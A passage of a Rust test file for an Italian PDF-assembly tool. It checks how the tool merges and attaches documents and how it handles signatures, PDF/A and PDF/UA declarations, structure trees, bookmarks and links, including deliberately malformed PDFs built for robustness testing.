//! The dossier loses nothing and claims nothing that is not true: each test is a shape that some
//! program writes, made by hand.

mod comune;

use std::fs;
use std::sync::OnceLock;

use comune::builder::{Back, declaring, one_page, page_and, pdf, pdf_with_trailer, stream};
use comune::carriers::{carrying, deflated, extract, files};
use comune::{Esecuzione, piano_2021, pira, radice};
use lopdf::Object;
use tempfile::TempDir;

/// The PIRA of 2021, generated once.
fn the_pira() -> &'static [u8] {
    static PIRA: OnceLock<Vec<u8>> = OnceLock::new();
    PIRA.get_or_init(|| {
        let folder = tempfile::tempdir().unwrap();
        let plan = piano_2021();
        pira(
            folder.path(),
            &["genera", plan.to_str().unwrap(), "-o", "pira.pdf"],
        )
        .riesce();
        fs::read(folder.path().join("pira.pdf")).unwrap()
    })
}

/// Joins some documents in their order, the PIRA aside.
fn join(parts: &[&[u8]]) -> (Esecuzione, TempDir) {
    let names: Vec<String> = (0..parts.len()).map(|n| format!("parte-{n}.pdf")).collect();
    let files: Vec<(&str, &[u8])> = names
        .iter()
        .map(String::as_str)
        .zip(parts.iter().copied())
        .collect();
    let folder = folder(&files);
    let mut command = vec!["allega".to_owned(), "--a".to_owned(), names[0].clone()];
    command.push(names[1].clone());
    for name in &names[2..] {
        command.extend(["--allegato".to_owned(), format!("e)={name}")]);
    }
    command.extend(["-o".to_owned(), "f.pdf".to_owned()]);
    let words: Vec<&str> = command.iter().map(String::as_str).collect();
    (pira(folder.path(), &words), folder)
}

/// The dossier of some documents.
#[track_caller]
fn dossier(parts: &[&[u8]]) -> (Back, String) {
    let (run, folder) = join(parts);
    let said = run.riesce().errori;
    let bytes = fs::read(folder.path().join("f.pdf")).unwrap();
    (Back::read(&bytes), said)
}

fn plain() -> Vec<u8> {
    pdf(&one_page("", ""))
}

fn text(object: &Object) -> String {
    lopdf::decode_text_string(object).unwrap()
}

fn count(bytes: &[u8], what: &[u8]) -> usize {
    bytes
        .windows(what.len())
        .filter(|window| *window == what)
        .count()
}

/// A folder with the PIRA and some other files.
fn folder(files: &[(&str, &[u8])]) -> TempDir {
    let folder = tempfile::tempdir().unwrap();
    fs::write(folder.path().join("pira.pdf"), the_pira()).unwrap();
    for (name, bytes) in files {
        fs::write(folder.path().join(name), bytes).unwrap();
    }
    folder
}

#[test]
fn every_file_that_we_write_ends_with_a_line_and_its_streams_with_two_bytes() {
    let folder = folder(&[("altro.pdf", &plain())]);
    let plan = piano_2021();
    let plan = plan.to_str().unwrap();
    for standard in ["a-1a", "a-2a,ua-1", "a-3b", "1.4", "2.0"] {
        let command = ["genera", plan, "--standard", standard, "-o", "x.pdf"];
        pira(folder.path(), &command).riesce();
        ends_well(&fs::read(folder.path().join("x.pdf")).unwrap(), 0);
    }
    for file in ["pira.pdf", "altro.pdf"] {
        pira(
            folder.path(),
            &["allega", "--a", file, "pira.pdf", "-o", "f.pdf"],
        )
        .riesce();
        ends_well(&fs::read(folder.path().join("f.pdf")).unwrap(), 0);
    }
    // PDF/A-1 has a table in lines.
    pira(
        folder.path(),
        &["genera", plan, "--standard", "a-1b", "-o", "uno.pdf"],
    )
    .riesce();
    pira(
        folder.path(),
        &["allega", "--a", "uno.pdf", "uno.pdf", "-o", "f.pdf"],
    )
    .riesce()
    .dice("PDF/A-1b");
    ends_well(&fs::read(folder.path().join("f.pdf")).unwrap(), 0);
    let command = [
        "allega",
        "--a",
        "altro.pdf",
        "pira.pdf",
        "--come-file",
        "-o",
        "f.pdf",
    ];
    pira(folder.path(), &command).riesce();
    ends_well(
        &fs::read(folder.path().join("f.pdf")).unwrap(),
        plain().len(),
    );
}

/// What was written from a byte on.
#[track_caller]
fn ends_well(bytes: &[u8], from: usize) {
    assert!(bytes.ends_with(b"\n%%EOF\n"));
    let written = &bytes[from..];
    assert!(count(written, b"\nendstream") > 0);
    assert_eq!(
        count(written, b"\nendstream"),
        count(written, b"\r\nendstream")
    );
    // The lengths are those of the data: the library that reads them trusts nothing else.
    assert!(Back::read(bytes).0.xref_recovery.is_none());
}

// Streams that do not say where they end.

#[test]
fn a_stream_that_does_not_say_how_long_it_is_keeps_its_data() {
    let data = b"0 1 0 rg 10 10 50 50 re f";
    let written = String::from_utf8_lossy(data);
    for (entries, word) in [
        ("", "stream\n"),
        ("/Length /Molto", "stream\n"),
        ("/Length 99 0 R", "stream\n"),
        ("/Length 7", "stream\n"),
        ("/Length 5000", "stream\n"),
        ("/Length 25", "stream"),
        ("", "stream"),
        ("", "stream \r\n"),
    ] {
        for end in ["\nendstream", "\r\nendstream", "endstream"] {
            let mut objects = one_page("", "");
            objects[3] = format!("<<{entries}>>\n{word}{written}{end}").into_bytes();
            let (run, folder) = join(&[&pdf(&objects), the_pira()]);
            // A wrong length, and no line before the end: nothing says that the word is not data.
            if ["/Length 7", "/Length 5000"].contains(&entries) && end == "endstream" {
                run.fallisce(1).dice("è danneggiato");
                continue;
            }
            run.riesce();
            let back = Back::read(&fs::read(folder.path().join("f.pdf")).unwrap());
            let first = back.pages()[0];
            let content = back.follow(first.get(b"Contents").unwrap());
            assert_eq!(
                content.as_stream().unwrap().content,
                data,
                "{entries} {word:?} {end:?}"
            );
        }
    }
}

#[test]
fn a_stream_that_could_end_in_two_places_is_refused() {
    let mut objects = one_page("", "");
    objects[3] = b"<<>>\nstream\n(a) Tj\nendstream\nendobj\n(b) Tj\nendstream".to_vec();
    let (run, _folder) = join(&[&pdf(&objects), the_pira()]);
    run.fallisce(1)
        .dice("non dice dove finisce")
        .dice("oggetto 4");
    objects[3] = b"<<>>\nstream\n(a) Tj".to_vec();
    let (run, _folder) = join(&[&pdf(&objects), the_pira()]);
    run.fallisce(1).dice("non dice dove finisce");
}

// Signatures.

/// A field with a signature, which says as little as the norm allows.
fn signed(catalogue: &str, field: &str, signature: &str) -> Vec<u8> {
    page_and(
        &format!("/AcroForm<</Fields[5 0 R]/SigFlags 3>>{catalogue}"),
        "/Annots[6 0 R]",
        &[
            format!("<</FT/Sig/T(firme)/Kids[6 0 R]{field}>>"),
            "<</Parent 5 0 R/T(una)/V 7 0 R/Subtype/Widget/Rect[0 0 0 0]>>".to_owned(),
            format!("<</Filter/Adobe.PPKLite/ByteRange[0 10 20 10]/Contents<00>{signature}>>"),
        ],
    )
}

#[test]
fn a_signed_document_is_refused_however_little_its_signature_says() {
    let direct = page_and(
        "/AcroForm<</Fields[5 0 R]>>",
        "",
        &["<</T(f)/V<</ByteRange[0 1 2 3]/Contents<00>>>>>"],
    );
    let inherited = page_and(
        "/AcroForm<</Fields[5 0 R]>>",
        "",
        &[
            "<</FT/Sig/T(a)/Kids[6 0 R]>>",
            "<</Parent 5 0 R/T(b)/V 7 0 R>>",
            "<</Filter/X>>",
        ],
    );
    let permissions = page_and("/Perms<</UR3 5 0 R>>", "", &["<</Filter/X>>"]);
    for document in [signed("", "", ""), direct, inherited, permissions] {
        let (run, _folder) = join(&[&document, the_pira()]);
        run.fallisce(1).dice("è firmato").dice("--come-file");
    }
    // A field to be signed later is no signature, nor is one whose signature was taken away.
    for value in ["", "/V null", "/V 6 0 R"] {
        let field = format!("<</FT/Sig/T(f){value}>>");
        let objects = [field.as_str(), "null"];
        let unsigned = page_and("/AcroForm<</Fields[5 0 R]>>", "", &objects);
        dossier(&[&unsigned, the_pira()]);
    }
}

#[test]
fn a_certified_or_locked_document_takes_no_file() {
    let certified = signed(
        "/Perms<</DocMDP 7 0 R>>",
        "",
        "/Reference[<</TransformMethod/DocMDP/TransformParams<</P 2>>>>]",
    );
    let only_permissions = signed("/Perms<</DocMDP 7 0 R>>", "", "");
    let locked = signed("", "/Lock<</Action/All/P 1>>", "");
    let by_reference = signed(
        "",
        "",
        "/Reference[<</TransformMethod/FieldMDP/TransformParams<</Action/All/P 1>>>>]",
    );
    for document in [certified, only_permissions, locked, by_reference] {
        let folder = folder(&[("firmato.pdf", &document)]);
        pira(
            folder.path(),
            &["allega", "--a", "firmato.pdf", "pira.pdf", "--come-file"],
        )
        .fallisce(1)
        .dice("renderebbe nulla la firma");
    }
    // Fields locked one by one allow the rest.
    let open = signed("", "/Lock<</Action/Include/Fields[(a)]>>", "");
    let folder = folder(&[("firmato.pdf", &open)]);
    pira(
        folder.path(),
        &["allega", "--a", "firmato.pdf", "pira.pdf", "--come-file"],
    )
    .riesce()
    .dice("altri considerano l'aggiunta non ammessa");
}

#[test]
fn what_is_attached_is_a_pdf_with_a_name_of_its_own() {
    let folder = folder(&[
        ("base.pdf", &plain()),
        ("testo.pdf", b"ciao"),
        ("nul.pdf", &plain()),
    ]);
    fs::create_dir(folder.path().join("b")).unwrap();
    fs::write(folder.path().join("b/PIRA.pdf"), the_pira()).unwrap();
    fs::write(folder.path().join("perché.pdf"), the_pira()).unwrap();
    let attach = |files: &[&str]| {
        let mut command = vec!["allega", "--a", "base.pdf", "--come-file", "-o", "f.pdf"];
        command.extend(files);
        pira(folder.path(), &command)
    };
    attach(&["testo.pdf"])
        .fallisce(1)
        .dice("testo.pdf non è un PDF");
    attach(&["nul.pdf"]).fallisce(1).dice("non è un nome");
    attach(&["pira.pdf", "--allegato", "a)=b/PIRA.pdf"])
        .fallisce(1)
        .dice("ha già un file");
    assert!(!folder.path().join("f.pdf").exists());
    attach(&["perché.pdf"]).riesce();
    let back = Back::read(&fs::read(folder.path().join("f.pdf")).unwrap());
    let tree = ["Names", "EmbeddedFiles", "Names"];
    let key = back.at(&tree).unwrap().as_array().unwrap()[0].clone();
    assert_eq!(key.as_str().unwrap()[..2], [0xfe, 0xff]);
    assert_eq!(text(&key), "perché.pdf");
    let parameters = back.dictionary(&[&tree[..], &["1", "EF", "F", "Params"]].concat());
    assert_eq!(
        parameters.get(b"CheckSum").unwrap().as_str().unwrap().len(),
        16
    );
    let again = [
        "allega",
        "--a",
        "f.pdf",
        "perché.pdf",
        "--come-file",
        "-o",
        "g.pdf",
    ];
    pira(folder.path(), &again)
        .fallisce(1)
        .dice("ha già un file");
}

// Standards.

/// A colour profile that says only what its colours are.
fn profile(space: &str) -> Vec<u8> {
    let mut profile = vec![0; 132];
    profile[16..20].copy_from_slice(space.as_bytes());
    stream(
        &format!("/N {}", if space == "CMYK" { 4 } else { 3 }),
        &profile,
    )
}

/// A document of one page that declares standards.
fn declared(properties: &[(&str, &str)], catalogue: &str, others: &[Vec<u8>]) -> Vec<u8> {
    let mut objects = one_page(&format!("/Metadata 5 0 R{catalogue}"), "");
    objects.push(declaring(properties));
    objects.extend_from_slice(others);
    pdf(&objects)
}

const A_2B: [(&str, &str); 2] = [("pdfaid:part", "2"), ("pdfaid:conformance", "B")];
const INTENT: &str = "/OutputIntents[<</S/GTS_PDFA1/DestOutputProfile 6 0 R>>]";

#[test]
fn parts_whose_colours_mean_different_things_make_no_archive() {
    let rgb = declared(&A_2B, INTENT, &[profile("RGB ")]);
    let cmyk = declared(&A_2B, INTENT, &[profile("CMYK")]);
    let none = declared(&A_2B, "", &[]);
    let (back, said) = dossier(&[&rgb, &cmyk]);
    assert!(
        said.contains("PDF 1.7") && said.contains("(CMYK)"),
        "{said}"
    );
    assert!(
        back.at(&["OutputIntents"]).is_none(),
        "nobody's colours change"
    );
    for parts in [[&rgb, &rgb], [&rgb, &none], [&none, &cmyk]] {
        let (back, said) = dossier(&parts.map(Vec::as_slice));
        assert!(said.contains("PDF/A-2b"), "{said}");
        assert!(back.at(&["OutputIntents"]).is_some());
    }
    // A part without a profile does not get another's, where nothing asks for one.
    let (back, _) = dossier(&[&plain(), the_pira()]);
    assert!(back.at(&["OutputIntents"]).is_none());
    let (_, said) = dossier(&[&plain(), &cmyk]);
    assert!(said.contains("il profilo dei colori (CMYK)"), "{said}");
}

#[test]
fn what_only_a_newer_file_can_be_is_not_declared() {
    let tree = b"<</Type/StructTreeRoot>>".to_vec();
    let tagged = "/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R";
    let ua_2 = declared(
        &[("pdfuaid:part", "2")],
        tagged,
        std::slice::from_ref(&tree),
    );
    let (_, said) = dossier(&[&ua_2, &ua_2]);
    assert!(
        said.contains("PDF/UA-2, uno standard di PDF 2.0") && said.contains("2 parti, PDF 1.7")
    );
    let a_4 = declared(&[("pdfaid:part", "4")], "", &[]);
    let (_, said) = dossier(&[&a_4, &a_4]);
    assert!(said.contains("PDF/A-4, uno standard di PDF 2.0"), "{said}");
    // A part that has no structure is for no screen reader, whatever it says.
    let both = [
        ("pdfaid:part", "2"),
        ("pdfaid:conformance", "A"),
        ("pdfuaid:part", "1"),
    ];
    let liar = declared(&both, "", &[]);
    let (_, said) = dossier(&[&liar, the_pira()]);
    assert!(
        said.contains("non ha una struttura") && said.contains("2 parti, PDF/A-2b"),
        "{said}"
    );
}

/// A document of one page whose metadata have some text at their top.
fn described(text: &str) -> Vec<u8> {
    let namespaces = "xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\" \
        xmlns:pdfaid=\"http://www.aiim.org/pdfa/ns/id/\" xmlns:mm=\"http://ns.adobe.com/xap/1.0/mm/\"";
    let text = format!(
        "<?xpacket begin=\"\u{feff}\"?><x:xmpmeta xmlns:x=\"adobe:ns:meta/\">\
         <rdf:RDF {namespaces}>{text}</rdf:RDF></x:xmpmeta>\n  <?xpacket end=\"w\"?>\n"
    );
    with_metadata(text.as_bytes())
}

fn with_metadata(metadata: &[u8]) -> Vec<u8> {
    let metadata = stream("/Type/Metadata/Subtype/XML", metadata);
    page_and("/Metadata 5 0 R", "", &[metadata])
}

#[test]
fn a_part_declares_what_its_metadata_say_of_it_as_xml() {
    let id = "<pdfaid:part>2</pdfaid:part><pdfaid:conformance>B</pdfaid:conformance>";
    let about = |text: &str| format!("<rdf:Description rdf:about=\"\">{text}</rdf:Description>");
    let declares = |part: &[u8]| {
        let (_, said) = dossier(&[part, part]);
        said.contains("2 parti, PDF/A-2b")
    };
    let declared = [
        about(id),
        about("<pdfaid:part> 2 </pdfaid:part><!-- no --><pdfaid:conformance>B</pdfaid:conformance>"),
        "<rdf:Description rdf:about='' pdfaid:part = '2' pdfaid:conformance='B'/>".to_owned(),
        format!("<rdf:Description>{id}</rdf:Description>"),
        // In two descriptions of the same file, under another prefix.
        "<rdf:Description rdf:about='' pdfaid:part='2'/>\
         <rdf:Description rdf:about='' xmlns:q='http://www.aiim.org/pdfa/ns/id/' q:conformance='B'/>"
            .to_owned(),
    ];
    for text in declared {
        assert!(declares(&described(&text)), "{text}");
    }
    let not_declared = [
        about(&format!("<!-- {id} -->")),
        about(&format!("<mm:a><![CDATA[{id}]]></mm:a>")),
        about(&format!(
            "<mm:DerivedFrom rdf:parseType='Resource'>{id}</mm:DerivedFrom>"
        )),
        about(&format!(
            "<mm:DerivedFrom><rdf:Description>{id}</rdf:Description></mm:DerivedFrom>"
        )),
        format!(
            "<rdf:Description rdf:about='' xmlns:pdfaid='http://example.org/'>{id}</rdf:Description>"
        ),
        format!(
            "{}<rdf:Description rdf:about='uuid:altro'>{id}</rdf:Description>",
            about("")
        ),
        format!("<rdf:Bag>{id}</rdf:Bag>"),
        // Two answers are none.
        about(&format!("{id}<pdfaid:part>1</pdfaid:part>")),
        about("<pdfaid:part>2</pdfaid:part><pdfaid:conformance>Bis</pdfaid:conformance>"),
    ];
    for text in not_declared {
        assert!(!declares(&described(&text)), "{text}");
    }
    // UTF-16, with and without its mark.
    let text = format!(
        "<rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\
         <rdf:Description xmlns:pdfaid=\"http://www.aiim.org/pdfa/ns/id/\">{id}</rdf:Description></rdf:RDF>"
    );
    let big: Vec<u8> = text.encode_utf16().flat_map(u16::to_be_bytes).collect();
    let marked: Vec<u8> = [0xfeff]
        .into_iter()
        .chain(text.encode_utf16())
        .flat_map(u16::to_le_bytes)
        .collect();
    for metadata in [text.as_bytes(), &big, &marked] {
        assert!(declares(&with_metadata(metadata)));
    }
    // What is not XML declares nothing, and it is said why.
    let broken = with_metadata(text.replace("</rdf:RDF>", "").as_bytes());
    let (_, said) = dossier(&[&broken, the_pira()]);
    let told = "i metadati XMP di parte-0.pdf non si leggono";
    assert!(
        said.contains(told) && said.contains("2 parti, PDF 1.7"),
        "{said}"
    );
    assert!(!said.contains("parte-0.pdf non dichiara"), "{said}");
}

#[test]
fn the_parts_are_judged_on_request() {
    let liar = declared(&A_2B, "", &[]);
    let folder = folder(&[("bugiardo.pdf", &liar)]);
    let command = ["allega", "--a", "bugiardo.pdf", "pira.pdf", "-o", "f.pdf"];
    pira(folder.path(), &command)
        .riesce()
        .dice("2 parti, PDF/A-2b");
    pira(
        folder.path(),
        &[&command[..], &["--verifica-parti"]].concat(),
    )
    .riesce()
    .dice("bugiardo.pdf dichiara PDF/A-2b e non lo rispetta (regole ISO 19005-2:2011:6.")
    .dice("2 parti, PDF 1.7");
    let honest = [
        "allega",
        "--a",
        "pira.pdf",
        "pira.pdf",
        "-o",
        "f.pdf",
        "--verifica-parti",
    ];
    pira(folder.path(), &honest)
        .riesce()
        .dice("2 parti, PDF/A-2a + PDF/UA-1");
}

/// A tagged PDF/UA-1 document with one element of a type, and a role map.
fn tagged(kind: &str, roles: &str) -> Vec<u8> {
    let root = format!("<</Type/StructTreeRoot/K 7 0 R/RoleMap<<{roles}>>>>");
    let element = format!("<</Type/StructElem/S/{kind}/P 6 0 R>>");
    declared(
        &[("pdfuaid:part", "1")],
        "/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R",
        &[root.into_bytes(), element.into_bytes()],
    )
}

#[test]
fn headings_of_two_kinds_are_no_accessible_document() {
    let (_, said) = dossier(&[&tagged("H", ""), &tagged("H1", "")]);
    assert!(
        said.contains("titoli senza livello") && said.contains("2 parti, PDF 1.7"),
        "{said}"
    );
    let (_, said) = dossier(&[&tagged("Capo", "/Capo/H"), &tagged("H2", "")]);
    assert!(said.contains("2 parti, PDF 1.7"), "{said}");
    let (_, said) = dossier(&[&tagged("H1", ""), &tagged("H2", "")]);
    assert!(said.contains("PDF/UA-1"), "{said}");
}

#[test]
fn tags_that_their_file_doubts_are_no_accessible_document() {
    let both = [
        ("pdfaid:part", "2"),
        ("pdfaid:conformance", "A"),
        ("pdfuaid:part", "1"),
    ];
    let tree = b"<</Type/StructTreeRoot>>".to_vec();
    let marked = |entries: &str| {
        let marks = format!("<<{entries}>>").into_bytes();
        let catalogue = "/MarkInfo 7 0 R/StructTreeRoot 6 0 R";
        declared(&both, catalogue, &[tree.clone(), marks])
    };
    let doubted = marked("/Marked true/Suspects true/UserProperties true");
    let (back, said) = dossier(&[the_pira(), &doubted]);
    assert!(
        said.contains("/Suspects true") && said.contains("2 parti, PDF/A-2a\n"),
        "{said}"
    );
    for key in [&b"Marked"[..], b"Suspects", b"UserProperties"] {
        let marks = back.dictionary(&["MarkInfo"]);
        assert!(marks.get(key).unwrap().as_bool().unwrap(), "{marks:?}");
    }
    // A structure that is not vouched for is for no screen reader.
    let (_, said) = dossier(&[the_pira(), &marked("/Suspects false")]);
    assert!(
        said.contains("/Marked true") && said.contains("2 parti, PDF/A-2b"),
        "{said}"
    );
    let (back, said) = dossier(&[the_pira(), &marked("/Marked true/Suspects false")]);
    assert!(said.contains("2 parti, PDF/A-2a + PDF/UA-1"), "{said}");
    assert!(!back.dictionary(&["MarkInfo"]).has(b"Suspects"));
}

#[test]
fn a_role_means_in_the_dossier_what_it_meant_in_its_part() {
    for (roles, kinds) in [
        // The second part's Capo changes name, and what leads to it must follow.
        (
            ["/Titolo/Capo/Capo/H1", "/Titolo/Capo/Capo/P"],
            ["Titolo", "Titolo"],
        ),
        (["/Capo/H1", "/Titolo/Capo/Capo/P"], ["Capo", "Titolo"]),
        (["/A/B/B/C/C/P", "/A/B/B/C/C/Span"], ["A", "A"]),
        // A standard type that one part maps and the other uses as it is.
        (["/P/H1", ""], ["P", "P"]),
        (["", "/Part/Sect"], ["Part", "Part"]),
        // Two parts that agree keep their names.
        (["/Titolo/H1", "/Titolo/H1"], ["Titolo", "Titolo"]),
    ] {
        let (back, _) = dossier(&[&tagged(kinds[0], roles[0]), &tagged(kinds[1], roles[1])]);
        for part in 0..2 {
            let mine: Vec<&str> = roles[part].split('/').skip(1).collect();
            let mut wanted = kinds[part];
            while let Some(pair) = mine.chunks(2).find(|pair| pair[0] == wanted) {
                wanted = pair[1];
            }
            let kids = ["StructTreeRoot", "K", "0", "K"];
            let part = part.to_string();
            let element = back.dictionary(&[&kids[..], &[&part, "K", "0"]].concat());
            let map = back
                .at(&["StructTreeRoot", "RoleMap"])
                .and_then(|map| map.as_dict().ok());
            let mut kind = element.get(b"S").unwrap();
            while let Some(next) = map.and_then(|map| map.get(kind.as_name().unwrap()).ok()) {
                kind = next;
            }
            assert_eq!(
                kind.as_name().unwrap(),
                wanted.as_bytes(),
                "{roles:?} {part}"
            );
        }
    }
}

// Structure.

#[test]
fn a_page_without_a_structure_finds_nobody_else_s() {
    for key in [
        "0",
        "-1",
        "-2147483648",
        "7",
        "2147483647",
        "9223372036854775807",
        "5 0 R",
    ] {
        let page = page_and("", &format!("/StructParents {key}"), &["0"]);
        let (back, _) = dossier(&[&page, the_pira()]);
        assert!(!back.pages()[0].has(b"StructParents"), "{key}");
        // The PIRA's pages find their own.
        let pira = Back::read(the_pira());
        for (mine, theirs) in pira.pages().iter().zip(&back.pages()[1..]) {
            assert_eq!(mine.has(b"StructParents"), theirs.has(b"StructParents"));
        }
    }
}

#[test]
fn the_keys_of_a_structure_go_anywhere_and_lead_where_they_led() {
    for key in ["0", "2147483647", "9223372036854775807", "12 0 R"] {
        let number = if key.contains('R') { "3" } else { key };
        let root =
            format!("<</Type/StructTreeRoot/K 7 0 R/ParentTree 8 0 R/ParentTreeNextKey {number}>>");
        let mut objects = one_page(
            "/MarkInfo<</Marked true>>/StructTreeRoot 6 0 R",
            &format!("/StructParents {key}"),
        );
        objects.push(b"null".to_vec());
        objects.push(root.into_bytes());
        objects.push(b"<</Type/StructElem/S/P/P 6 0 R/Pg 3 0 R/K 0/T(mio)>>".to_vec());
        objects.push(format!("<</Nums[-4[7 0 R]{number}[7 0 R]]>>").into_bytes());
        objects.extend([
            b"null".to_vec(),
            b"null".to_vec(),
            b"null".to_vec(),
            b"3".to_vec(),
        ]);
        let part = pdf(&objects);
        let (back, _) = dossier(&[the_pira(), &part, &part]);
        let tree = back.at(&["StructTreeRoot", "ParentTree", "Nums"]).unwrap();
        let tree = tree.as_array().unwrap();
        let keys: Vec<i64> = tree
            .chunks(2)
            .map(|pair| pair[0].as_i64().unwrap())
            .collect();
        assert!(keys.is_sorted() && keys[0] >= 0, "{keys:?}");
        for page in back.pages().iter().rev().take(2) {
            let key = page.get(b"StructParents").unwrap().as_i64().unwrap();
            let place = keys.iter().position(|other| *other == key).unwrap();
            let parents = back.follow(&tree[place * 2 + 1]).as_array().unwrap();
            let parent = back.follow(&parents[0]).as_dict().unwrap();
            assert_eq!(parent.get(b"T").unwrap().as_str().unwrap(), b"mio");
        }
    }
}

// Bookmarks, destinations, labels.

#[test]
fn bookmarks_in_the_catalogue_itself_are_kept() {
    let part = page_and(
        "/Outlines<</First 5 0 R/Last 5 0 R/Count 1>>",
        "",
        &["<</Title(Primo)/Dest[3 0 R/Fit]>>"],
    );
    let (back, _) = dossier(&[&part, &part, the_pira()]);
    let mut entry = back.dictionary(&["Outlines", "First"]);
    for _ in 0..2 {
        let first = back.follow(entry.get(b"First").unwrap()).as_dict().unwrap();
        assert_eq!(text(first.get(b"Title").unwrap()), "Primo");
        entry = back.follow(entry.get(b"Next").unwrap()).as_dict().unwrap();
    }
}

/// The bookmarks below an entry, each with how it is tied, as `[title, count, [below]]`; a chain that
/// does not end where it says is a failure.
fn outline(back: &Back, holder: &lopdf::Dictionary, id: lopdf::ObjectId) -> String {
    let mut told = String::new();
    let mut previous = None;
    let mut next = holder.get(b"First").ok();
    while let Some(item) = next {
        let item_id = item.as_reference().unwrap();
        let item = back.follow(item).as_dict().unwrap();
        let reference = |key: &[u8]| item.get(key).ok().map(|r| r.as_reference().unwrap());
        assert_eq!(reference(b"Parent"), Some(id));
        assert_eq!(reference(b"Prev"), previous);
        let count = item
            .get(b"Count")
            .map_or(0, |count| count.as_i64().unwrap());
        let below = outline(back, item, item_id);
        told += &format!("[{} {count}{below}]", text(item.get(b"Title").unwrap()));
        assert!(told.len() < 10_000, "a chain without end");
        previous = Some(item_id);
        next = item.get(b"Next").ok();
    }
    let last = holder.get(b"Last").ok().map(|r| r.as_reference().unwrap());
    assert_eq!(last, previous);
    told
}

#[test]
fn bookmarks_badly_tied_are_kept_and_do_not_spoil_the_others() {
    let shown = |catalogue: &str, items: &[&str]| {
        let part = page_and(catalogue, "", items);
        let (back, _) = dossier(&[&part, the_pira()]);
        let root = back.0.catalog().unwrap().get(b"Outlines").unwrap();
        let id = root.as_reference().unwrap();
        let told = outline(&back, back.dictionary(&["Outlines"]), id);
        let count = back.dictionary(&["Outlines"]).get(b"Count").unwrap();
        let (told, of_the_pira) = told.split_once("[Allegato d) PIRA").unwrap();
        assert!(of_the_pira.matches('[').count() > 5, "{of_the_pira}");
        let of_the_part = 1 + told.matches('[').count();
        assert!(count.as_i64().unwrap() > of_the_part as i64);
        told.to_owned()
    };
    let root = "/Outlines 5 0 R";
    let first = "<</First 6 0 R/Last 6 0 R>>";
    let cases: [(&str, &[&str], &str); 9] = [
        // An item that has itself below.
        (
            root,
            &[first, "<</Title(Uno)/First 6 0 R/Last 6 0 R/Count 1>>"],
            "[parte-0.pdf 1[Uno 0]]",
        ),
        // Chains that come back, to the first and to the last.
        (
            root,
            &[
                "<</First 6 0 R>>",
                "<</Title(Uno)/Next 7 0 R>>",
                "<</Title(Due)/Next 6 0 R>>",
            ],
            "[parte-0.pdf 2[Uno 0][Due 0]]",
        ),
        (
            root,
            &[
                first,
                "<</Title(Uno)/Next 7 0 R>>",
                "<</Title(Due)/Prev 6 0 R/Next 7 0 R>>",
            ],
            "[parte-0.pdf 2[Uno 0][Due 0]]",
        ),
        // What is below is what is above.
        (
            root,
            &[
                first,
                "<</Title(Uno)/First 7 0 R>>",
                "<</Title(Due)/First 6 0 R/Next 5 0 R>>",
            ],
            "[parte-0.pdf 1[Uno -1[Due 0]]]",
        ),
        // Items that stand where they are used.
        (
            "/Outlines<</First<</Title(Uno)/First<</Title(Sotto)>>/Next<</Title(Due)>>>>>>",
            &[],
            "[parte-0.pdf 2[Uno -1[Sotto 0]][Due 0]]",
        ),
        // A page is no item.
        (root, &["<</First 3 0 R/Last 3 0 R>>"], "[parte-0.pdf 0]"),
        (
            root,
            &["<</First 9 0 R/Last 9 0 R/Count 4>>"],
            "[parte-0.pdf 0]",
        ),
        // Counts that are wrong, and items that are open and closed.
        (
            root,
            &[
                "<</First 6 0 R/Last 6 0 R/Count 40>>",
                "<</Title(Uno)/First 7 0 R/Last 7 0 R/Count 9>>",
                "<</Title(Due)/First 8 0 R/Last 8 0 R/Count -9>>",
                "<</Title(Tre)/Count 3>>",
            ],
            "[parte-0.pdf 2[Uno 1[Due -1[Tre 0]]]]",
        ),
        ("/Outlines null", &[], "[parte-0.pdf 0]"),
    ];
    for (catalogue, items, wanted) in cases {
        let told = shown(catalogue, items);
        assert_eq!(told, wanted, "{items:?}");
    }
}

#[test]
fn page_labels_stay_with_the_pages_of_their_part() {
    let part = page_and(
        "/PageLabels<</Nums[5<</S/A>>0<</S/r>>1<</S/D/St 90>>-3<</S/a>>]>>",
        "",
        &[""; 0],
    );
    let (back, _) = dossier(&[&part, &plain(), &part]);
    let labels = back
        .at(&["PageLabels", "Nums"])
        .unwrap()
        .as_array()
        .unwrap();
    let pairs = labels.chunks(2).map(|pair| {
        let style = back.follow(&pair[1]).as_dict().unwrap().get(b"S").unwrap();
        (pair[0].as_i64().unwrap(), style.as_name().unwrap()[0])
    });
    assert_eq!(pairs.collect::<Vec<_>>(), [(0, b'r'), (1, b'D'), (2, b'r')]);
}

#[test]
fn links_lead_where_they_led_however_they_say_it() {
    // A name in an object of its own, a page by its number, an action of a name, the last page.
    let part = page_and(
        "/Names<</Dests<</Names[(qui)[3 0 R/XYZ 0 0 0](qui)[0/Fit](la)<</D[0/Fit]>>]>>>>",
        "/Annots[5 0 R 6 0 R 7 0 R 8 0 R]",
        &[
            "<</Subtype/Link/Rect[0 0 9 9]/Dest 9 0 R>>",
            "<</Subtype/Link/Rect[0 0 9 9]/Dest[0/Fit]>>",
            "<</Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D(la)>>>>",
            "<</Subtype/Link/Rect[0 0 9 9]/A<</S/Named/N/LastPage>>>>",
            "(qui)",
        ],
    );
    // A name that the part does not have is not another part's.
    let lost = page_and(
        "",
        "/Annots[<</Subtype/Link/Rect[0 0 9 9]/Dest(qui)>><</Subtype/Link/Rect[0 0 9 9]/A<</S/GoTo/D/qui>>>>]",
        &[""; 0],
    );
    let (back, _) = dossier(&[&part, &lost]);
    let links = back.follow(back.pages()[1].get(b"Annots").unwrap());
    for link in links.as_array().unwrap() {
        let link = back.follow(link).as_dict().unwrap();
        let holder = link
            .get(b"A")
            .map_or(link, |action| back.follow(action).as_dict().unwrap());
        let destination = holder.get(b"D").or(holder.get(b"Dest"));
        assert!(
            destination.is_err() || destination.unwrap().is_null(),
            "{link:?}"
        );
    }
    // A page that the part does not have is no page of the dossier.
    let beyond = page_and(
        "/Names<</Dests<</Names[(oltre)[1/Fit]]>>>>",
        "/Annots[<</Subtype/Link/Rect[0 0 9 9]/Dest[2/Fit]>>]",
        &[""; 0],
    );
    let (back, _) = dossier(&[&beyond, &part]);
    let first = back.at(&["Names", "Dests", "Names", "3", "0"]);
    assert!(matches!(first, Some(Object::Null)), "{first:?}");
    let (back, _) = dossier(&[&part, &part]);
    let pages: Vec<_> = back.0.page_iter().collect();
